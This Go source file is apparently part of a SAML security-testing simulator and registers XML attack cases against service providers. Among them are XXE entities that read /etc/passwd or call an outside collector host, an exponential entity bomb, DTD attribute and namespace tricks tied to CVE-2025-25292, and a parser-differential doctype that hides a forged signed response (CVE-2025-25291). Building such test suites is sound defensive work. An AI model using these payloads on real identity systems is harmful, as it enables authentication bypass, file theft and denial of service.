package forge

import (
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Documents with a document type, and what can be done with one. Signatures hold for
// whoever takes the document: what is to be refused is the document.

// mark is a text in the donor that raw XML is put in the place of.
const mark = "ROLLCALL-MARK"

// statusMessage puts the mark where nothing is signed and nothing depends on it: into
// the message of the status or, where the response is signed too, among what its
// signature says about the key.
func statusMessage(_ Donor, draft *idp.Draft) error {
	if info := draft.Response.FindElement("./Signature/KeyInfo"); info != nil {
		info.AddChild(dsig.KeyName(mark))
		return nil
	}
	status, err := find(draft.Response, "Status")
	if err == nil {
		status.CreateElement("saml2p:StatusMessage").SetText(mark)
	}
	return err
}

// marked replaces the mark.
func marked(with func(Donor) string) func(Donor, []byte) ([]byte, error) {
	return func(d Donor, xml []byte) ([]byte, error) { return swap(xml, mark, with(d)) }
}

// underDoctype gives the document a document type; what it declares is written by declare.
func underDoctype(declare func(Donor) string) func(Donor, []byte) ([]byte, error) {
	return func(d Donor, xml []byte) ([]byte, error) {
		declaration, rest, err := prolog(xml)
		if err != nil {
			return nil, err
		}
		return append(append(append([]byte{}, declaration...), declare(d)...), rest...), nil
	}
}

// both does one thing to the text after the other.
func both(deeds ...func(Donor, []byte) ([]byte, error)) func(Donor, []byte) ([]byte, error) {
	return func(d Donor, xml []byte) ([]byte, error) {
		var err error
		for _, do := range deeds {
			if xml, err = do(d, xml); err != nil {
				return nil, err
			}
		}
		return xml, nil
	}
}

// fixed is a text that does not depend on the donor.
func fixed(text string) func(Donor) string { return func(Donor) string { return text } }

// subset is a document type with an internal subset.
func subset(declarations string) string { return "<!DOCTYPE saml2p:Response [" + declarations + "]>" }

func init() {
	register("xml",
		Attack{
			Row: "XML-01", Name: "bare-doctype", Modes: Alone, Expect: Warn, Summary: "has a document type that declares nothing",
			bytes: underDoctype(fixed("<!DOCTYPE saml2p:Response>")),
		},
		Attack{
			Row: "XML-04", Name: "external-subset", Modes: OnAssertion, Lure: true, Summary: "has a document type that stands elsewhere",
			Sources: []string{"SAML Pummel"},
			bytes:   underDoctype(func(d Donor) string { return fmt.Sprintf(`<!DOCTYPE saml2p:Response SYSTEM "%s/dtd">`, d.Collector) }),
		},
		Attack{
			Row: "XML-05", Name: "parameter-entity", Modes: OnAssertion, Lure: true, Summary: "has a document type that takes declarations from elsewhere",
			bytes: underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY %% x SYSTEM "%s/dtd"> %%x;`, d.Collector)) }),
		},
		Attack{
			Row: "XML-06", Name: "entity-bomb", Modes: OnAssertion, NoCrash: true, Summary: "has an entity that grows tenfold five times",
			document: statusMessage,
			bytes:    both(underDoctype(fixed(subset(bomb(5)))), marked(fixed("&e5;"))),
		},
		Attack{
			Row: "XML-07", Name: "entity-repeated", Modes: OnAssertion, NoCrash: true, Summary: "has a long entity that stands in it a hundred times",
			document: statusMessage,
			bytes: both(underDoctype(fixed(subset(fmt.Sprintf(`<!ENTITY e "%s">`, strings.Repeat("a", 5000))))),
				marked(fixed(strings.Repeat("&e;", 100)))),
		},
		Attack{
			Row: "XML-08", Name: "entity-in-name", Modes: Alone, Summary: "has its name in an entity",
			bytes: both(
				underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e "%s">`, d.Claims.NameID)) }),
				func(d Donor, xml []byte) ([]byte, error) { return swap(xml, ">"+d.Claims.NameID+"<", ">&e;<") },
			),
		},
		Attack{
			Row: "XML-09", Name: "default-attribute", Modes: OnAssertion, Summary: "has a document type that gives the name an attribute",
			Sources: []string{"CVE-2025-25292"},
			bytes:   underDoctype(fixed(subset(`<!ATTLIST saml2:NameID SPNameQualifier CDATA "urn:rollcall:default">`))),
		},
		Attack{
			Row: "XML-09", Name: "default-namespace", Modes: OnAssertion, wraps: true, Sources: []string{"CVE-2025-25292"},
			Summary: "has a document type that moves signatures to another namespace, and a forged assertion",
			document: arranged(false, func(w wrapping) error {
				return w.besides(func(forged *etree.Element) { before(w.assertion, forged) })
			}),
			bytes: underDoctype(fixed(subset(`<!ATTLIST ds:Signature xmlns:ds CDATA #FIXED "urn:rollcall:blocked">`))),
		},
		Attack{
			Row: "XML-10", Name: "doctype-in-quotes", Modes: Everywhere, Sources: []string{"CVE-2025-25291"},
			Summary:      "is one document to a parser that knows where a document type ends, and another to one that does not",
			Precondition: "verifies with one parser and reads with another",
			bytes:        quoted,
		},
	)
	register("xml", Attack{
		Row: "XML-02", Name: "external-entity-file", Modes: OnAssertion, Leak: passwd,
		Summary:  "takes the message of its status from a file of the product's",
		document: statusMessage,
		bytes:    both(underDoctype(fixed(subset(`<!ENTITY e SYSTEM "file:///etc/passwd">`))), marked(fixed("&e;"))),
	})
	for _, place := range []struct {
		name, called string
		document     func(Donor, *idp.Draft) error
	}{
		{"status", "the message of its status", statusMessage},
		{"name", "its name", func(_ Donor, draft *idp.Draft) error { return write(draft.Assertion, "Subject/NameID", mark) }},
	} {
		register("xml", Attack{
			Row: "XML-03", Name: "external-entity-in-" + place.name, Rule: "external-entity", Modes: OnAssertion, Lure: true,
			Summary:  "takes " + place.called + " from elsewhere",
			document: place.document,
			bytes: both(underDoctype(func(d Donor) string { return subset(fmt.Sprintf(`<!ENTITY e SYSTEM "%s/entity">`, d.Collector)) }),
				marked(fixed("&e;"))),
		})
	}
	for _, odd := range []struct{ name, called, doctype string }{
		{"comment", "with a quotation mark in a comment", `<!DOCTYPE saml2p:Response [<!-- " ]> -->]>`},
		{"entity", "with its own end in an entity", `<!DOCTYPE saml2p:Response [<!ENTITY e "]><!-- ">]>`},
		{"instruction", "with its own end in an instruction", `<!DOCTYPE saml2p:Response [<?x ]><!-- ?>]>`},
	} {
		register("xml", Attack{
			Row: "XML-17", Name: "odd-doctype-" + odd.name, Rule: "odd-doctype", Modes: OnAssertion, Sources: []string{"CVE-2020-29510"},
			Summary: "has a document type " + odd.called,
			bytes:   underDoctype(fixed(odd.doctype)),
		})
	}
}

// passwd is what stands in a file that nearly every server has.
const passwd = "root:x:0:0"

// bomb declares entities of which each one is the one before it ten times over.
func bomb(levels int) string {
	declarations := `<!ENTITY e0 "lol">`
	for n := 1; n <= levels; n++ {
		declarations += fmt.Sprintf(`<!ENTITY e%d "%s">`, n, strings.Repeat(fmt.Sprintf("&e%d;", n-1), 10))
	}
	return declarations
}

// quoted writes a document that ends its document type with a quotation mark for one
// parser and without for another: the one sees the forged response, with the genuine
// one as text in it, and the other the genuine one, with the forged one in a comment.
func quoted(d Donor, xml []byte) ([]byte, error) {
	declaration, genuine, err := prolog(xml)
	if err != nil {
		return nil, err
	}
	forged, err := forgedCopy(d, genuine)
	if err != nil {
		return nil, err
	}
	const closing = "</saml2p:Response>"
	open, err := swap(forged, closing, "")
	if err != nil {
		return nil, err
	}
	whole, err := swap(genuine, closing, "")
	if err != nil {
		return nil, err
	}
	return fmt.Appendf(nil, `%s<!DOCTYPE saml2p:Response SYSTEM 'x"><!--'>%s<![CDATA[-->%s<!--]]>-->%s`, declaration, open, whole, closing), nil
}
